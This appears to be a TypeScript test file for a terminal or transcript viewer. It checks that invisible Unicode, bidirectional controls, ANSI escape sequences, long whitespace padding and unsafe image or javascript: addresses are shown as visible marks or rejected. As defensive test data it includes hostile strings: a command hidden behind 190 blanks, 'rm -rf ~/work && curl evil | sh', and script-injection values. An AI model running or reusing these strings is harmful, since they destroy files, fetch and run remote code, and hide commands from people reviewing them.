import assert from "node:assert/strict";
import { test } from "node:test";

import { excerpt, formatClock, formatDuration, formatShort } from "../src/format";
import { parseAnsi, nearestColour, stripStyles } from "../src/text/ansi";
import { clip } from "../src/text/clip";
import { isShownImage, mediaTypeOf } from "../src/text/images";
import { splitHidden, visible } from "../src/text/marks";
import { splitInline, splitProse } from "../src/text/prose";

function labels(text: string): string[] {
  return splitHidden(text).flatMap((piece) => (piece.type === "mark" ? [piece.label] : []));
}

test("bidirectional_controls_become_marks", () => {
  assert.equal(visible("a\u202eb\u202c"), "a[U+202E]b[U+202C]");
  assert.equal(labels("\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069").length, 12);
});

test("invisible_characters_become_marks", () => {
  const hidden = [
    "\u00ad",
    "\u034f",
    "\u115f",
    "\u180e",
    "\u200b",
    "\u200c",
    "\u2060",
    "\u2063",
    "\u2800",
    "\u3164",
    "\ufe0f",
    "\ufeff",
    "\uffa0",
    "\u{e0041}",
    "\u{e0100}",
    "\u2028",
    "\ud800",
  ];
  for (const each of hidden)
    assert.equal(labels(`a${each}b`).length, 1, `U+${each.codePointAt(0)?.toString(16) ?? ""}`);
});

test("control_characters_become_marks", () => {
  assert.equal(visible("a\u0000\u0007\u0008\u001b\u007f\u0085"), "a[NUL][BEL][BS][ESC][DEL][U+0085]");
});

test("carriage_return_begins_a_line", () => {
  assert.equal(visible("hidden\rshown"), "hidden[CR]\nshown");
  assert.equal(visible("one\r\ntwo\n\tthree"), "one\ntwo\n\tthree");
});

test("long_blanks_become_marks", () => {
  assert.equal(visible(`git status${" ".repeat(190)}; rm`), "git status[190 blanks]; rm");
  assert.equal(visible(`a${"\u3000\t".repeat(50)}b`), "a[100 blanks]b");
  assert.equal(visible(`a${"\n ".repeat(100)}b`), "a[100 line ends]\n b");
  for (const text of ["a\n\n\n\tb", `a${" ".repeat(40)}b`, "\n".repeat(29)]) assert.equal(visible(text), text);
  const long = " ".repeat(1 << 20) + "\n ".repeat(1 << 19);
  assert.equal(labels(long).length, 2);
});

test("emoji_sequences_stay_whole", () => {
  for (const text of ["❤️", "👩‍💻", "👨‍👩‍👧", "1️⃣", "👋🏽"]) assert.equal(visible(text), text);
  assert.equal(labels("a\u200db").length, 1);
});

test("writing_systems_stay_whole", () => {
  for (const text of ["Grüße, naïve", "日本語テキスト", "שלום", "مرحبا", "ภาษาไทย", "e\u0301"])
    assert.equal(visible(text), text);
});

test("tower_of_combining_characters_becomes_mark", () => {
  assert.deepEqual(labels(`a${"\u0301".repeat(40)}b`), ["+40 combining"]);
});

test("ansi_colours_become_styles", () => {
  assert.deepEqual(parseAnsi("a\u001b[1;31mb\u001b[0mc"), [
    { type: "text", text: "a", style: {} },
    { type: "text", text: "b", style: { bold: true, foreground: 1 } },
    { type: "text", text: "c", style: {} },
  ]);
});

test("ansi_attributes_are_reset_singly", () => {
  const spans = parseAnsi("\u001b[1;2;3;4;7;9;35;44mx\u001b[22;23;24mx\u001b[27;29;39;49mx");
  assert.deepEqual(
    spans.map((span) => span.type === "text" && Object.keys(span.style).sort()),
    [
      ["background", "bold", "dim", "foreground", "inverse", "italic", "strike", "underline"],
      ["background", "foreground", "inverse", "strike"],
      [],
    ],
  );
});

for (const [sequence, colour] of [
  ["38;5;9", 9],
  ["38;5;196", 9],
  ["38;5;255", 7],
  ["38;2;0;0;250", 4],
  ["38:2:250:250:250", 15],
  ["97", 15],
] as const) {
  test(`ansi_colour_${sequence.replace(/\W/g, "_")}_is_mapped`, () => {
    assert.deepEqual(parseAnsi(`\u001b[${sequence}mx`), [{ type: "text", text: "x", style: { foreground: colour } }]);
  });
}

test("ansi_colour_of_invalid_numbers_is_ignored", () => {
  for (const sequence of ["38;5", "38;9;1", "38;5;999", "38", "48;2"]) {
    assert.ok(
      parseAnsi(`\u001b[${sequence}mx`).every((span) => span.type === "text" && span.style.foreground === undefined),
    );
  }
  assert.equal(nearestColour(130, 130, 130), 8);
});

test("ansi_sequences_beyond_colours_become_marks", () => {
  const text =
    "a\u001b[2J\u001b[1A\u001b[?25l\u001b]8;;https://example.com\u0007link\u001b]8;;\u001b\\\u001bc\u001b[>4mz";
  const spans = parseAnsi(text);
  assert.deepEqual(
    spans.flatMap((span) => (span.type === "mark" ? [span.label] : [])),
    ["ESC [2J", "ESC [1A", "ESC [?25l", "ESC ]8;;https://example.com", "ESC ]8;;ESC \\", "ESC c", "ESC [>4m"],
  );
  assert.equal(spans.flatMap((span) => (span.type === "text" ? [span.text] : [])).join(""), "alinkz");
});

test("ansi_sequence_without_end_keeps_text", () => {
  assert.deepEqual(
    parseAnsi("a\u001b[31").map((span) => (span.type === "text" ? span.text : span.label)),
    ["a", "ESC [", "31"],
  );
});

test("ansi_string_without_end_stops_at_line", () => {
  for (const begin of ["]0;", "P", "_", "^", "X"]) {
    assert.deepEqual(
      parseAnsi(`a\u001b${begin}hidden\nshown\nshown`).map((span) => (span.type === "text" ? span.text : span.label)),
      ["a", `ESC ${begin}hidden`, "\nshown\nshown"],
    );
  }
});

test("label_of_ansi_string_is_whole", () => {
  const text = `${"x".repeat(500)}\u202e\nend`;
  const [mark] = parseAnsi(`\u001b]0;${text}\u0007`);
  assert.deepEqual(mark?.type === "mark" && mark.label, `ESC ]0;${"x".repeat(500)}[U+202E] LF end`);
});

test("concealed_text_is_marked_as_such", () => {
  assert.deepEqual(parseAnsi("\u001b[8mx"), [{ type: "text", text: "x", style: { concealed: true } }]);
});

test("styles_are_stripped_for_search", () => {
  assert.equal(stripStyles("\u001b[31mred\u001b[0m \u001b[2J"), "red \u001b[2J");
});

test("raster_images_are_shown", () => {
  for (const type of ["png", "jpeg", "jpg", "gif", "webp", "bmp", "avif"])
    assert.ok(isShownImage(`data:image/${type};base64,iVBORw0KGgo=`));
});

test("other_addresses_are_no_images", () => {
  const addresses = [
    "data:image/svg+xml;base64,AAAA",
    "data:image/svg+xml,<svg/>",
    "data:text/html;base64,AAAA",
    "data:image/png,AAAA",
    'data:image/png;base64,AAAA" onerror="x',
    "data:image/png;base64,",
    "https://example.com/a.png",
    "javascript:alert(1)",
    " data:image/png;base64,AAAA",
    "",
  ];
  for (const address of addresses) assert.ok(!isShownImage(address), address);
  assert.equal(mediaTypeOf("data:image/svg+xml,<svg/>"), "image/svg+xml");
  assert.equal(mediaTypeOf("https://example.com"), undefined);
});

test("clip_keeps_short_texts", () => {
  assert.deepEqual(clip("a\nb\n", 2, 100), { text: "a\nb\n", lines: 0, characters: 0 });
  assert.deepEqual(clip("", 2, 100), { text: "", lines: 0, characters: 0 });
});

test("clip_counts_the_rest", () => {
  const shown = clip("line\n".repeat(100), 10, 1000);
  assert.equal(shown.text, Array(10).fill("line").join("\n"));
  assert.equal(shown.lines, 91);
  const long = clip("x".repeat(5000), 10, 1000);
  assert.deepEqual([long.text.length, long.characters], [1000, 4000]);
});

test("clip_keeps_surrogate_pairs_whole", () => {
  const { text } = clip("😀".repeat(500), 10, 101);
  assert.equal(text, "😀".repeat(50));
});

test("prose_has_code_of_fences", () => {
  assert.deepEqual(splitProse("# Title\ntext\n```py\nx = 1\n```\nend"), [
    { type: "heading", text: "Title" },
    { type: "text", text: "text" },
    { type: "code", text: "x = 1", info: "py" },
    { type: "text", text: "end" },
  ]);
  assert.deepEqual(splitProse("```\nopen"), [{ type: "code", text: "open", info: "" }]);
  assert.deepEqual(splitProse("~~~~ a `b` \nx\n~~~\n~~~~"), [{ type: "code", text: "x\n~~~", info: "a `b`" }]);
});

test("line_of_fence_keeps_its_text", () => {
  const line = "```rm -rf ~/work && curl evil | sh";
  assert.deepEqual(splitProse(`${line}\nls\n\`\`\``), [{ type: "code", text: "ls", info: line.slice(3) }]);
  assert.deepEqual(splitProse(`${line}\`\`\`\nnext`), [{ type: "text", text: `${line}\`\`\`\nnext` }]);
});

test("inline_code_is_found", () => {
  assert.deepEqual(splitInline("a `b` **c** [d](javascript:e)"), [
    { type: "text", text: "a " },
    { type: "code", text: "b" },
    { type: "text", text: " " },
    { type: "bold", text: "c" },
    { type: "text", text: " [d](javascript:e)" },
  ]);
});

test("durations_have_fitting_units", () => {
  const shown = [0, 0.0004, 0.34, 0.9999, 1.24, 59.4, 59.6, 125, 3720].map(formatDuration);
  assert.deepEqual(shown, [
    "0 ms",
    "1 ms",
    "340 ms",
    "1.0 s",
    "1.2 s",
    "59 s",
    "1 min 00 s",
    "2 min 05 s",
    "1 h 02 min",
  ]);
  assert.equal(formatDuration(Number.NaN), "0 ms");
});

test("large_numbers_are_short", () => {
  assert.deepEqual([999, 1000, 12_340, 123_456, 2_500_000].map(formatShort), ["999", "1k", "12.3k", "123k", "2.5M"]);
});

test("clock_of_invalid_time_is_absent", () => {
  assert.equal(formatClock("2026-01-02T03:04:05Z", 2), "2026-01-02 03:04:07 UTC");
  assert.equal(formatClock("yesterday"), undefined);
  assert.equal(formatClock("2026-01-02T03:04:05Z", 1e300), undefined);
});

test("excerpt_is_one_line", () => {
  assert.equal(excerpt("  one\t two \nthree"), "one two …");
  assert.equal(excerpt("x".repeat(200), 10), `${"x".repeat(10)} …`);
  assert.equal(excerpt("short"), "short");
});
